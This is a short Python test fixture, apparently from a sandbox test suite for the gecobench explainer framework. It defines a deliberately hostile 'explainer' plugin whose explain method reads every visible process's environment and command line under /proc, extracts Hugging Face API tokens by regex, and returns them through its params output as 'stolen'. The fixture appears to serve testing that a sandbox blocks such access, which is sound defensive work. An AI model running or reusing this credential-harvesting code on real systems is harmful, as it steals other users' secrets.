"""Hostile: reads every visible process's environment and command line looking for a token."""

import json
import os

import numpy as np

from gecobench.explainers import Explainer

# Filled in by the test with the host's real paths (what an attacker who knows the host would aim at).
HOST = json.loads(r"""__HOST__""")


class ScansProc(Explainer):
    name = "secret_scans_proc"

    def explain(self, model, tokenizer, words, targets):
        proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
        seen = []
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for part in ("environ", "cmdline"):
                try:
                    fd = os.open(f"{pid}/{part}", os.O_RDONLY, dir_fd=proc)
                    seen.append(os.read(fd, 1 << 16).decode(errors="replace"))
                except OSError:
                    continue
        import re

        # A token's value, not a name like TOKENIZERS_PARALLELISM (which bwrap's own command line shows).
        tokens = [m for s in seen for m in re.findall(r"hf_[A-Za-z0-9]{10,}|HF_TOKEN=[^\0]+", s)]
        if not tokens:
            raise LookupError(f"no token in any of {len(seen)} readable process files")
        self.stolen = tokens
        return [np.ones(len(w)) for w in words]

    def params(self):
        return {"stolen": getattr(self, "stolen", [])}
